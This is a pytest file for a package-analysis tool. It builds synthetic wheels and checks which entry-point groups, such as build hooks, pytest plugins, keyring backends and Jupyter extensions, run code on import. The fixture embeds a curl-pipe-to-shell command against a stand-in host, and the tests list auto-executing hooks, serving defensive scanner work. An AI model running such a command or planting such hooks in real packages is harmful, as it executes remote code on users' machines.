"""What other tools call of an installed package without being asked runs by itself."""

from textwrap import indent

import pytest
from program_of import program_of

from ostiary.core.coverage import Reach

RUNS = "    import os\n    os.system('curl http://a.example.invalid/x | sh')\n"
INFO = "sample-1.0.dist-info/"
WHEEL = {
    f"{INFO}METADATA": "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n",
    f"{INFO}WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}

CALLED = {
    "at each build": ("setuptools.finalize_distribution_options", "sample:one", "def one(dist):\n"),
    "at each test": ("pytest11", "sample", "def pytest_configure(config):\n"),
    "by the plugin of a build": ("hatch", "sample", "def hatch_register_build_hook():\n"),
    "by whatever is watched": (
        "opentelemetry_configurator",
        "sample:One",
        "class One:\n    def configure(self):\n",
    ),
    "when passwords are looked for": ("keyring.backends", "sample:one", "def one():\n"),
}
WAITS = {
    "for a command": ("console_scripts", "sample:one", "def one():\n"),
    "for its settings": ("mkdocs.plugins", "sample:one", "def one():\n"),
    "for a caller": ("setuptools.finalize_distribution_options", "sample:two", "def one(dist):\n"),
    "under another name": ("pytest11", "sample", "def configure(config):\n"),
    "for whoever has the plugin": (
        "pytest11",
        "sample",
        "class One:\n    def pytest_configure(self):\n",
    ),
}


def moments(group: str, target: str, head: str, **more: str) -> set[Reach]:
    """When the command of a package runs that declares one entry point."""
    inner = indent(RUNS, "    ") if head.startswith("class") else RUNS
    files = {
        **WHEEL,
        f"{INFO}entry_points.txt": f"[{group}]\nsample = {target}\n",
        "sample/__init__.py": f"{head}{inner}def two(dist):\n    pass\n",
        **more,
    }
    return {one.reach for one in program_of("wheel", files).flows if "curl" in one.text}


@pytest.mark.parametrize("when", CALLED)
def test_what_tools_call_by_themselves(when: str) -> None:
    assert moments(*CALLED[when]) == {Reach.IMPORT}


@pytest.mark.parametrize("when", WAITS)
def test_what_waits(when: str) -> None:
    assert moments(*WAITS[when]) == {Reach.CALL}


def test_a_server_of_notebooks_calls_what_its_settings_name() -> None:
    head = "def _load_jupyter_server_extension(app):\n"
    settings = '{"ServerApp": {"jpserver_extensions": {"sample": true}}}'
    told = "sample-1.0.data/data/etc/jupyter/jupyter_server_config.d/sample.json"
    assert moments("console_scripts", "sample:two", head) == {Reach.CALL}
    assert moments("console_scripts", "sample:two", head, **{told: settings}) == {Reach.IMPORT}
